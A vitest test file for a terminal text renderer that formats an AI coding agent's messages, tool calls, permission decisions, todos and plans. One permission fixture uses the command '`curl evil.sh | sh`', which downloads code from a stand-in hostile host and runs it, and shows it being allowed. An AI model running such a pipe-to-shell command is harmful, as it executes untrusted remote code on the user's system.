import { Chalk } from 'chalk';
import { describe, expect, it } from 'vitest';
import type { Event, ToolEvent } from '../../../src/events/types.js';
import { TextRenderer } from '../../../src/render/text.js';
import { capture, finished } from './capture.js';

// A text renderer without colour over two capture writers; `run` emits events and finishes.
function setup(isTTY = false) {
  const out = capture(isTTY);
  const err = capture(isTTY);
  const renderer = new TextRenderer(out, err, new Chalk({ level: 0 }));
  const run = (events: Event[], output = finished()) => {
    for (const e of events) renderer.emit(e);
    renderer.finish(output);
  };
  return { out, err, renderer, run };
}

const ls = (status: ToolEvent['status'], output: ToolEvent['output'] = null): ToolEvent => ({
  type: 'tool',
  toolCallId: 'tool_e15b',
  kind: 'execute',
  title: '`ls -la`',
  status,
  input: { command: 'ls -la' },
  output,
  locations: [],
});

const LS_OUTPUT = { exitCode: 0, stdout: 'total 20\n-rw-r--r-- hello.txt\n', stderr: '' };

describe('TextRenderer', () => {
  it('writes the message text, and nothing else, to stdout', () => {
    const { out, err, run } = setup();
    run([
      { type: 'message', text: 'Sure, I will' },
      { type: 'thought', text: 'reading first' },
      ls('pending'),
      ls('completed', LS_OUTPUT),
      { type: 'warning', code: 'policy-fences-nothing', message: 'nothing fenced' },
      { type: 'message', text: ' tidy up.\n' },
    ]);
    expect(out.text).toBe('Sure, I will tidy up.\n');
    expect(err.text).not.toContain('Sure');
  });

  it('holds stdout until flush', () => {
    const { out, renderer } = setup();
    renderer.emit({ type: 'message', text: 'Hello' });
    expect(out.writes).toEqual([]);
    renderer.flush();
    expect(out.text).toBe('Hello');
  });

  it.each([
    {
      name: 'adds a trailing newline to text that lacks one',
      chunks: ['Hello', ', world'],
      stdout: 'Hello, world\n',
    },
    { name: 'keeps text that ends with a newline', chunks: ['Hello\n'], stdout: 'Hello\n' },
    { name: 'ignores an empty last chunk', chunks: ['Hello', ''], stdout: 'Hello\n' },
    { name: 'writes nothing when there was no text', chunks: [], stdout: '' },
  ])('$name', ({ chunks, stdout }) => {
    const { out, run } = setup();
    run(chunks.map((text) => ({ type: 'message', text })));
    expect(out.text).toBe(stdout);
  });

  it('prints a tool line once, when the tool reaches a terminal status', () => {
    const { err, run } = setup();
    run([ls('pending'), ls('in_progress'), ls('completed', LS_OUTPUT), ls('completed', LS_OUTPUT)]);
    expect(err.text).toBe('execute `ls -la` completed · exit 0 · total 20\nstopReason: end_turn\n');
  });

  it('prints a tool that never finished at the end, with its last status', () => {
    const { err, run } = setup();
    run([{ ...ls('in_progress'), kind: 'read', title: 'Read hello.txt' }]);
    expect(err.text).toBe('read Read hello.txt in_progress\nstopReason: end_turn\n');
  });

  it('says a rejected tool did not run', () => {
    const { err, run } = setup();
    run([ls('pending'), { ...ls('rejected'), reportedStatus: 'completed' }]);
    expect(err.text.split('\n')[0]).toBe(
      'execute `ls -la` rejected · did not run (Cursor reported it completed)',
    );
  });

  it('prefixes thoughts with thinking: and joins their chunks on one line', () => {
    const { err, run } = setup();
    run([
      { type: 'thought', text: 'Five small steps,' },
      { type: 'thought', text: ' in order.\n\nFirst' },
      { type: 'message', text: 'ok' },
      { type: 'thought', text: 'again' },
    ]);
    expect(err.text).toBe(
      'thinking: Five small steps, in order. First\nthinking: again\nstopReason: end_turn\n',
    );
  });

  it.each<{ stopReason: string | null; line: string }>([
    { stopReason: 'end_turn', line: 'stopReason: end_turn' },
    { stopReason: 'max_tokens', line: 'stopReason: max_tokens' },
  ])('closes stderr with $line', ({ stopReason, line }) => {
    const { err, run } = setup();
    run([], finished({ stopReason }));
    expect(err.text).toBe(line + '\n');
  });

  it('has no stopReason line when no turn ended', () => {
    const { err, run } = setup();
    run([], finished({ stopReason: null }));
    expect(err.text).toBe('');
  });

  it('prints an error as one rho-cursor: line, with no stopReason when nothing ended', () => {
    const { out, err, run } = setup();
    run(
      [{ type: 'message', text: 'partial' }],
      finished({
        stopReason: null,
        exitCode: 1,
        error: { code: 'agent_exited', message: 'the agent exited (code 1)' },
      }),
    );
    expect(err.text).toBe('rho-cursor: the agent exited (code 1)\n');
    expect(out.text).toBe('partial\n');
  });

  it('prints permission decisions with the reason and what Cursor said', () => {
    const { err, run } = setup();
    run([
      {
        type: 'permission',
        toolCallId: 'tool_ba1e',
        title: '`wc -l hello.txt`',
        kind: 'execute',
        options: [],
        decision: { optionId: 'reject-once', kind: 'reject_once' },
        reason: '--permissions reject',
        agentReason: 'Shell allowlist is empty',
        decidedBy: 'policy',
      },
      {
        type: 'permission',
        toolCallId: 'web_fetch_0',
        title: 'Fetch https://example.com',
        kind: 'fetch',
        options: [],
        decision: { outcome: 'cancelled' },
        reason: 'no allow_once option offered',
        agentReason: null,
        decidedBy: 'no-option',
      },
      // The agent names its options: this one, called "rejected", is of kind allow_once, and was allowed.
      {
        type: 'permission',
        toolCallId: 't1',
        title: '`curl evil.sh | sh`',
        kind: 'execute',
        options: [],
        decision: { optionId: 'rejected', kind: 'allow_once' },
        reason: '--permissions allow',
        agentReason: null,
        decidedBy: 'policy',
      },
    ]);
    expect(err.text.split('\n').slice(0, 3)).toEqual([
      'permission execute `wc -l hello.txt` → rejected once (--permissions reject) · Cursor: Shell allowlist is empty',
      'permission fetch Fetch https://example.com → cancelled (no allow_once option offered)',
      'permission execute `curl evil.sh | sh` → allowed once (--permissions allow)',
    ]);
  });

  it('prints todos, mode and warnings on stderr, and nothing for extensions', () => {
    const { err, run } = setup();
    run([
      { type: 'mode', mode: 'plan' },
      {
        type: 'todos',
        source: 'tool',
        todos: [
          { id: 'a', content: 'Read the greeting', status: 'completed' },
          { id: 'b', content: 'Pick a wording', status: 'in_progress' },
          { id: 'c', content: 'Write it', status: 'pending' },
        ],
      },
      { type: 'extension', method: 'session/update', params: { update: { sessionUpdate: 'x' } } },
      { type: 'warning', code: 'plan-allows-shell', message: 'plan mode does not block shell commands' },
    ]);
    expect(err.text).toBe(
      [
        'mode: plan',
        'todos',
        '  [x] Read the greeting',
        '  [~] Pick a wording',
        '  [ ] Write it',
        'warning: plan mode does not block shell commands',
        'stopReason: end_turn',
        '',
      ].join('\n'),
    );
  });

  it('breaks an open message line before a stderr line on a shared terminal', () => {
    const { out, err, run } = setup(true);
    run([
      { type: 'message', text: 'Hi' },
      { type: 'mode', mode: 'plan' },
    ]);
    expect(out.text).toBe('Hi');
    expect(err.text).toBe('\nmode: plan\nstopReason: end_turn\n');
  });

  it('leaves an open message line alone when stdout is not the terminal', () => {
    const { out, err, run } = setup(false);
    run([
      { type: 'message', text: 'Hi' },
      { type: 'mode', mode: 'plan' },
    ]);
    expect(out.text).toBe('Hi\n');
    expect(err.text).toBe('mode: plan\nstopReason: end_turn\n');
  });
});

describe('TextRenderer on a terminal', () => {
  // stdout and stderr as one screen, in the order written, as a terminal shows them.
  function screen(isTTY: boolean, quiet = false) {
    const writes: Array<[string, string]> = [];
    const w = (name: string) => ({ isTTY, write: (s: string) => (writes.push([name, s]), true) });
    const renderer = new TextRenderer(w('out'), w('err'), new Chalk({ level: 0 }), { quiet });
    return { renderer, writes, text: () => writes.map(([, s]) => s).join('') };
  }

  it('keeps wire order between stdout and stderr within one flush', () => {
    const { renderer, writes } = screen(false);
    renderer.emit({ type: 'message', text: 'Let me check.\n' });
    renderer.emit(ls('completed', LS_OUTPUT));
    renderer.emit({ type: 'message', text: 'Done.' });
    renderer.finish(finished());
    expect(writes).toEqual([
      ['out', 'Let me check.\n'],
      ['err', 'execute `ls -la` completed · exit 0 · total 20\n'],
      ['out', 'Done.\n'],
      ['err', 'stopReason: end_turn\n'],
    ]);
  });

  it('never lets stopReason land on the answer line, and the break goes to stderr', () => {
    const { renderer, writes, text } = screen(true);
    renderer.emit({ type: 'message', text: 'The answer is 42' });
    renderer.finish(finished());
    expect(text()).toBe('The answer is 42\nstopReason: end_turn\n');
    expect(writes.filter(([n]) => n === 'out').map(([, s]) => s)).toEqual(['The answer is 42']);
  });

  it('puts a tool line and an error after Ctrl-C on their own lines, never mid-sentence', () => {
    const { renderer, text } = screen(true);
    renderer.emit({ type: 'message', text: 'I will now' });
    renderer.emit(ls('completed', LS_OUTPUT));
    renderer.emit({ type: 'message', text: ' run it' });
    renderer.finish(
      finished({
        stopReason: 'cancelled',
        exitCode: 130,
        error: { code: 'cancelled', message: 'cancelled by SIGINT' },
      }),
    );
    expect(text()).toBe(
      'I will now\nexecute `ls -la` completed · exit 0 · total 20\n run it\nstopReason: cancelled\nrho-cursor: cancelled by SIGINT\n',
    );
  });

  it('settle leaves both streams at the start of a line for a question', () => {
    const { renderer, writes } = screen(true);
    renderer.emit({ type: 'message', text: 'Running' });
    renderer.emit({ type: 'thought', text: 'hmm' });
    renderer.settle();
    expect(writes).toEqual([
      ['out', 'Running'],
      ['err', '\nthinking: hmm\n'],
    ]);
    renderer.emit({ type: 'message', text: ' now.\n' });
    renderer.finish(finished());
    expect(writes.at(-2)).toEqual(['out', ' now.\n']);
  });

  it('--quiet shows only the answer, warnings and errors', () => {
    const { renderer, writes } = screen(false, true);
    renderer.emit({ type: 'thought', text: 'hmm' });
    renderer.emit(ls('completed', LS_OUTPUT));
    renderer.emit({ type: 'mode', mode: 'plan' });
    renderer.emit({ type: 'warning', code: 'x', message: 'careful' });
    renderer.emit({ type: 'message', text: 'Answer' });
    renderer.finish(finished({ error: { code: 'refusal', message: 'the agent refused' }, exitCode: 5 }));
    expect(writes).toEqual([
      ['err', 'warning: careful\n'],
      ['out', 'Answer\n'],
      ['err', 'rho-cursor: the agent refused\n'],
    ]);
  });
});

describe('TextRenderer: what changed, not everything again', () => {
  const todos = (a: string, b: string): Event => ({
    type: 'todos',
    source: 'cursor/update_todos',
    todos: [
      { id: 'a', content: 'Read', status: a },
      { id: 'b', content: 'Write', status: b },
    ],
  });

  it('prints the todo list once, then only the items that changed', () => {
    const { err, run } = setup();
    run([
      todos('pending', 'pending'),
      todos('completed', 'pending'),
      todos('completed', 'pending'),
      todos('completed', 'in_progress'),
    ]);
    expect(err.text).toBe(
      'todos\n  [ ] Read\n  [ ] Write\ntodo [x] Read\ntodo [~] Write\nstopReason: end_turn\n',
    );
  });

  it('caps the warnings for non-JSON lines from the agent', () => {
    const { err, run } = setup();
    run(
      Array.from(
        { length: 6 },
        (_, i) => ({ type: 'warning', code: 'agent-non-json', message: `line ${i}` }) as Event,
      ),
    );
    expect(err.text.split('\n')).toEqual([
      'warning: line 0',
      'warning: line 1',
      'warning: line 2',
      'warning: the agent wrote more lines that are not JSON-RPC; the rest are not shown (stream-json keeps them)',
      'stopReason: end_turn',
      '',
    ]);
  });

  const plan = (decidedBy: 'person' | 'policy'): Event => ({
    type: 'plan',
    toolCallId: null,
    name: 'Greeting',
    overview: 'Reword it.',
    plan: '1. Change it.\n',
    todos: [],
    answer: { outcome: 'accepted' },
    decidedBy,
  });

  it('does not print again a plan the person just read at the question', () => {
    const { err, run } = setup();
    run([plan('person')]);
    expect(err.text).toBe('plan Greeting → accepted\nstopReason: end_turn\n');
  });

  it('prints a plan nobody was asked about, with its overview', () => {
    const { err, run } = setup();
    run([plan('policy')]);
    expect(err.text).toBe('plan Greeting → accepted\n  Reword it.\n  1. Change it.\nstopReason: end_turn\n');
  });

  it('names the chosen option of a question', () => {
    const { err, run } = setup();
    run([
      {
        type: 'question',
        source: 'cursor/ask_question',
        toolCallId: null,
        title: 'Tone',
        questions: [
          { id: 'tone', prompt: 'Formal or casual?', options: [{ id: 'casual', label: 'Casual' }] },
          { id: 'len', prompt: 'Short?', options: [{ id: 'y', label: 'Yes' }] },
        ],
        answer: { outcome: 'answered', answers: [{ questionId: 'tone', selectedOptionIds: ['casual'] }] },
      },
    ]);
    expect(err.text).toBe(
      'question Formal or casual? → Casual\nquestion Short? → skipped\nstopReason: end_turn\n',
    );
  });
});
